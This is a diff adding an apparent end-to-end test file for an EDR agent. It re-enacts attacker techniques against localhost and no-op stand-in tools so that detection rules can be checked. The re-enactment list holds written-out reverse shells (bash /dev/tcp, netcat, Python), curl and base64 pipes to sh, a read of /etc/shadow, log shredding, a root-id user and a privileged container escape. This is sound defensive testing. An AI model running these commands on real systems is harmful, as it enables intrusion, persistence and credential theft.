@@ -1,0 +1,334 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Behaviour as people have it judged: harmless re-enactments of what intruders do, each by real
+processes under a real agent with trace, edr and our own rules; and the work of every day, which
+must raise nothing."""
+
+import contextlib
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import unittest
+
+import support
+from support import BUILD, EICAR, SOURCE, TOCSIN, Agent, wait_for
+
+OWN = os.path.join(SOURCE, "config/rules/sigma")
+SIGMAHQ = os.path.join(os.path.dirname(SOURCE), "shared/data/sigma/linux")
+NOTHING = os.path.join(BUILD, "bin", "tocsin_nothing")  # lives for microseconds, ends with 42
+SECONDS = 30  # to wait for what a busy machine may take its time with
+
+
+class Judge(Agent):
+    """An agent whose alerts about descendants of this test are collected as they are raised."""
+
+    def __init__(self, rules=(OWN,), trace="", edr="", **more):
+        plugins = "  trace: {%s}\n  edr: {rules: [%s]%s}\n" % (
+            trace, ", ".join(rules), ", " + edr if edr else "")
+        super().__init__(plugins=plugins, **more)
+        self.alerts = []
+        self.tap = None
+
+    def start(self, ready=True):
+        super().start(ready)
+        self.tap = self.rpc()
+        self.tap.call("tap.open", {"topics": ["alert.raised"]})
+
+    def stop(self, seconds=8):
+        if self.tap:
+            self.tap.close()
+        self.tap = None
+        return super().stop(seconds)
+
+    def ebpf(self):
+        return self.tocsin("health", "--field", "supplementary_events_subsystem").strip() == "ebpf"
+
+    def collect(self, seconds=0.05):
+        end = time.monotonic() + seconds
+        with contextlib.suppress(socket.timeout):
+            while time.monotonic() < end:
+                _, method, params = self.tap.notification(max(end - time.monotonic(), 0.01))
+                if method != "tap.event":
+                    raise AssertionError("the tap lost alerts: %r" % params)
+                above = params[3].get("process", {}).get("ancestors", [])
+                if any(a["pid"] == os.getpid() for a in above):
+                    self.alerts.append(params[3])
+        return self.alerts
+
+    def found(self, title, line):
+        """The alerts of that title about a process with that very command line."""
+        def those():
+            return [a for a in self.alerts if a["alert"]["title"] == title
+                    and a["process"].get("command_line") == line]
+        return those() or (self.collect() and those())
+
+    def wait_alert(self, title, line):
+        try:
+            return wait_for(lambda: self.found(title, line), SECONDS)[0]
+        except AssertionError:
+            raise AssertionError("no alert %r for %r; there are: %s" % (title, line, self.told()))
+
+    def told(self):
+        return "\n".join("%s: %s" % (a["alert"]["title"], a["process"].get("command_line"))
+                         for a in self.alerts)
+
+    def settle(self):
+        """Returns when all that has happened until now has been judged."""
+        line = "settled %d" % time.monotonic_ns()
+        rule = subprocess.Popen([os.path.join(self.tools, "xmrig"), line])
+        rule.wait()
+        self.wait_alert("Crypto-currency miner", " ".join(rule.args))
+        self.alerts = [a for a in self.alerts if line not in a["process"]["command_line"]]
+
+    def __enter__(self):
+        self.tools = os.path.join(self.dir, "tools")
+        os.mkdir(self.tools)
+        self.tool("xmrig")
+        return super().__enter__()
+
+    def tool(self, name, of=NOTHING):
+        """A program of that name that does nothing, for what nobody should really call."""
+        path = os.path.join(self.tools, name)
+        shutil.copy(of, path)
+        return path
+
+
+def run(*args, **more):
+    """Runs it to its end, whatever that is; gives the command line as the kernel has it."""
+    more.setdefault("stdin", subprocess.DEVNULL)
+    subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
+                   timeout=60, **more)
+    return " ".join(args)
+
+
+def shell(command, **more):
+    return run("bash", "-c", command, **more)
+
+
+def reenact(agent):
+    """Does what our rules are about, to nobody's harm. Gives the alerts that must come of it:
+    each a title, and the command line of the process that it must name."""
+    def as_guest():
+        os.setresuid(1000, 0, 0)
+
+    folder = agent.dir
+    done = [
+        ("Encoded command handed to an interpreter", shell("echo dHJ1ZQo= | base64 -d | sh")),
+        ("Reverse shell by redirection", shell("bash -i >& /dev/tcp/127.0.0.1/1 0>&1")),
+        ("Reverse shell by netcat or socat", run(agent.tool("nc"), "-e", "/bin/sh", "127.0.0.1",
+                                                 "1")),
+        ("Reverse shell by a one-line script", run(
+            sys.executable, "-c", "import socket, os; s = socket.socket()\n"
+            "s.connect(('127.0.0.1', 1)); os.dup2(s.fileno(), 0); os.execl('/bin/sh', 'sh')")),
+        ("Download handed to an interpreter", shell(
+            "curl -s http://127.0.0.1:1/x | sh", env={"PATH": agent.tools + ":/usr/bin:/bin"})),
+        ("Crontab replaced from a pipe", shell(
+            "echo '@daily true' | %s -" % agent.tool("crontab"))),
+        ("Shell history cleared", shell("history -c")),
+        ("Shell history cleared", run("rm", "-f", os.path.join(folder, "home/.bash_history"))),
+        ("System log deleted or emptied", run(agent.tool("shred"), "-u", "/var/log/auth.log")),
+        ("File with passwords or keys read", run("head", "-c", "0", "/etc/shadow")),
+        ("Second user with root's id", run(agent.tool("useradd"), "-o", "-u", "0", "helper")),
+        ("Protection or logging switched off", run(agent.tool("systemctl"), "stop", "auditd")),
+        ("Crypto-currency miner", run(agent.tool("w"), "-o", "stratum+tcp://127.0.0.1:1")),
+        ("Kernel module loaded from an odd place", run(
+            "insmod", "/tmp/scratch.ko", executable=agent.tool("insmod"))),
+        ("Shell started out of a tool", run("find", folder, "-maxdepth", "0", "-exec", "/bin/sh",
+                                            ";")),
+        ("Library preloaded from a temporary folder", shell("LD_PRELOAD=/tmp/no.so true")),
+        ("Way out of a container", run(
+            agent.tool("docker"), "run", "--privileged", "-v", "/:/host", "x")),
+        ("Program with the name of a kernel thread", run("[kworker/7:7]", executable=NOTHING)),
+        ("Shell with borrowed root rights", run("bash", "-p", "-c", "exit 3",
+                                                preexec_fn=as_guest)),
+    ]
+
+    scratch = os.path.join(folder, "scratch")
+    shutil.copy("/bin/true", scratch)
+    done.append(("Program made to run with its owner's rights", run("chmod", "u+s", scratch)))
+    if not os.stat(scratch).st_mode & 0o4000:
+        raise AssertionError("chmod did nothing")
+    os.unlink(scratch)
+
+    server = agent.tool("nginx", of=shutil.which("bash"))
+    run(server, "-c", "sh -c 'exit 4'; true")
+    done.append(("Web server starts a shell", "sh -c exit 4"))
+
+    hidden = tempfile.mkdtemp(prefix=".tocsin-e2e-", dir="/tmp")
+    shutil.copy(NOTHING, hidden)
+    done.append(("Program run from a hidden place",
+                 run(os.path.join(hidden, os.path.basename(NOTHING)))))
+    shutil.rmtree(hidden)
+
+    fetched = os.path.join(tempfile.mkdtemp(prefix="tocsin-e2e-", dir="/tmp"), "fetched")
+    shutil.copy(NOTHING, fetched)
+    shell("%s -o %s http://127.0.0.1:1/; %s; true" % (agent.tool("curl"), fetched, fetched))
+    done.append(("Downloaded into a temporary folder and executed", fetched))
+    shutil.rmtree(os.path.dirname(fetched))
+
+    shell("id; whoami; uname -a; who; users; groups; cat /etc/passwd; true")
+    done.append(("Somebody looks about", "cat /etc/passwd"))
+    return done
+
+
+# Rules of SigmaHQ that must fire on the same, by their titles there.
+SIGMAHQ_TITLES = (
+    "Bash Interactive Shell",
+    "Chmod Targeting Sensitive Directories",
+    "Disable Or Stop Services",
+    "History File Deletion",
+    "Linux Base64 Encoded Pipe to Shell",
+    "Linux Crypto Mining Indicators",
+    "Potential Netcat Reverse Shell Execution",
+    "System Information Discovery",
+    "System Information Discovery - Auditd",
+)
+
+
+@support.needs_root
+class Reenacted(unittest.TestCase):
+    def setUp(self):
+        self.assertTrue(os.path.exists(NOTHING))
+
+    def check(self, agent):
+        if not agent.ebpf():
+            self.skipTest("without eBPF, what lives so shortly is told without its arguments")
+        for title, line in reenact(agent):
+            with self.subTest(title):
+                alert = agent.wait_alert(title, line)
+                self.assertEqual(alert["rule"]["name"], title)
+                self.assertEqual(alert["alert"]["detected_from"], "edr")
+
+    def test_each_technique_raises_its_alert_with_the_true_command_line(self):
+        with Judge(edr="suppress: 0s", sensor=False) as agent:
+            self.check(agent)
+
+    def test_with_the_rules_of_sigmahq_as_well_both_fire(self):
+        if not os.path.isdir(SIGMAHQ):
+            self.skipTest("there are no rules of SigmaHQ at " + SIGMAHQ)
+        with Judge(rules=(OWN, SIGMAHQ), edr="suppress: 0s", sensor=False) as agent:
+            self.check(agent)
+            agent.settle()
+            theirs = {a["alert"]["title"] for a in agent.alerts
+                      if a["rule"]["file"].startswith(SIGMAHQ)}
+            print("rules of SigmaHQ that fired:", sorted(theirs), file=sys.stderr)
+            self.assertLessEqual(set(SIGMAHQ_TITLES), theirs)
+
+
+@support.needs_root
+class Quiet(unittest.TestCase):
+    """What is built, packed and installed every day raises no alert."""
+
+    def make(self, folder):
+        """A small program of several files, by make and the compiler, two at a time."""
+        os.makedirs(os.path.join(folder, "src"))
+        for i in range(6):
+            with open(os.path.join(folder, "src", "f%d.c" % i), "w", encoding="ascii") as f:
+                f.write("int f%d(void);\nint f%d(void)\n{\n    return %d;\n}\n" % (i, i, i))
+        with open(os.path.join(folder, "src", "main.c"), "w", encoding="ascii") as f:
+            f.write("int main(void)\n{\n    return 0;\n}\n")
+        with open(os.path.join(folder, "src", "Makefile"), "w", encoding="ascii") as f:
+            f.write("OBJECTS = $(patsubst %.c,%.o,$(wildcard *.c))\n"
+                    "VERSION := $(shell uname -r)\n"
+                    "all: program\n\techo built by $$(id -u) for $(VERSION) && ./program\n"
+                    "program: $(OBJECTS)\n\tcc -o $@ $^\n"
+                    "install: all\n\tinstall -D -m 755 program $(DESTDIR)/usr/bin/program\n")
+        subprocess.run(["make", "-j2", "-C", os.path.join(folder, "src"), "install",
+                        "DESTDIR=" + os.path.join(folder, "package")], check=True,
+                       stdout=subprocess.DEVNULL)
+
+    def package(self, folder):
+        """What make has installed, as a Debian package with a scheduled task and a service, put
+        into a root of its own."""
+        package, root = os.path.join(folder, "package"), os.path.join(folder, "root")
+        for name, text in (("DEBIAN/control", "Package: tocsin-e2e\nVersion: 1\nArchitecture: all\n"
+                            "Maintainer: nobody <nobody@example.org>\nDescription: a test\n"),
+                           ("etc/cron.d/tocsin-e2e", "# nothing\n"),
+                           ("etc/systemd/system/tocsin-e2e.service", "[Unit]\n"),
+                           ("etc/profile.d/tocsin-e2e.sh", "# nothing\n")):
+            path = os.path.join(package, name)
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w", encoding="ascii") as f:
+                f.write(text)
+        for name in ("var/lib/dpkg/info", "var/lib/dpkg/updates"):
+            os.makedirs(os.path.join(root, name))
+        for name in ("var/lib/dpkg/status", "var/lib/dpkg/available"):
+            with open(os.path.join(root, name), "w", encoding="ascii"):
+                pass
+        file = os.path.join(folder, "tocsin-e2e.deb")
+        for args in (["dpkg-deb", "--root-owner-group", "--build", package, file],
+                     ["dpkg", "--root=" + root, "--install", file],
+                     ["dpkg", "--root=" + root, "--purge", "tocsin-e2e"]):
+            subprocess.run(args, check=True, stdout=subprocess.DEVNULL)
+        subprocess.run(["apt-get", "--simulate", "--option", "Debug::NoLocking=1", "install",
+                        "--reinstall", "coreutils"], check=False, stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL)
+
+    def test_a_build_and_a_package_manager_raise_nothing(self):
+        with Judge(edr="suppress: 0s", sensor=False) as agent:
+            folder = os.path.join(agent.dir, "work")
+            self.make(folder)
+            if shutil.which("dpkg-deb"):
+                self.package(folder)
+            agent.settle()
+            self.assertEqual(agent.alerts, [], agent.told())
+
+
+@support.needs_root
+class SelfTest(unittest.TestCase):
+    def folders(self):
+        return [name for name in os.listdir(tempfile.gettempdir())
+                if name.startswith("tocsin-edr-selftest-")]
+
+    def test_it_shows_one_alert_each_time_and_leaves_nothing(self):
+        before = self.folders()
+        with Judge(sensor=False) as agent:
+            one = agent.json("edr", "selftest")
+            self.assertEqual(one["title"], "Tocsin EDR self-test")
+            self.assertIn("tocsin-edr-selftest-", agent.tocsin("edr", "selftest"))
+            both = agent.call("alert.list")["items"]
+            self.assertEqual([a["title"] for a in both], ["Tocsin EDR self-test"] * 2)
+            self.assertIn(one["id"], [a["id"] for a in both])
+            agent.settle()
+            self.assertEqual(len(agent.alerts), 2, agent.told())
+            self.assertEqual(self.folders(), before)
+
+    def test_it_says_what_is_missing(self):
+        with Judge(rules=("/nonexistent",), sensor=False) as agent:
+            self.assertIn("tocsin definitions list",
+                          agent.tocsin("edr", "selftest", "--wait", "1", status=1))
+            agent.tocsin("plugin", "disable", "trace")
+            self.assertIn("tocsin plugin enable trace",
+                          agent.tocsin("edr", "selftest", "--wait", "1", status=1))
+        self.assertIn("no agent", subprocess.run(
+            [TOCSIN, "--socket", "/nonexistent", "edr", "selftest"], capture_output=True, text=True,
+            check=False).stderr)
+
+    def test_ctrl_c_leaves_nothing(self):
+        before = self.folders()
+        with Judge(rules=("/nonexistent",), sensor=False) as agent:
+            with subprocess.Popen([TOCSIN, "--socket", agent.socket, "edr", "selftest"],
+                                  stderr=subprocess.PIPE, text=True) as test:
+                wait_for(lambda: self.folders() != before)
+                test.send_signal(signal.SIGINT)
+                self.assertIn("interrupted", test.communicate(timeout=SECONDS)[1])
+            self.assertEqual(test.returncode, 1)
+            self.assertEqual(self.folders(), before)
+
+    def test_with_eicar_it_is_the_products_basic_scenario_of_two_alerts(self):
+        with Judge() as agent:
+            with open(agent.path("eicar"), "wb") as f:
+                f.write(EICAR)
+            agent.tocsin("edr", "selftest")
+            alerts = wait_for(lambda: len(agent.call("alert.list")["items"]) > 1
+                              and agent.call("alert.list")["items"], SECONDS)
+            self.assertEqual(sorted(a["title"] for a in alerts),
+                             ["Malware found: EICAR-Test-File", "Tocsin EDR self-test"])
+
+
+if __name__ == "__main__":
+    support.main()
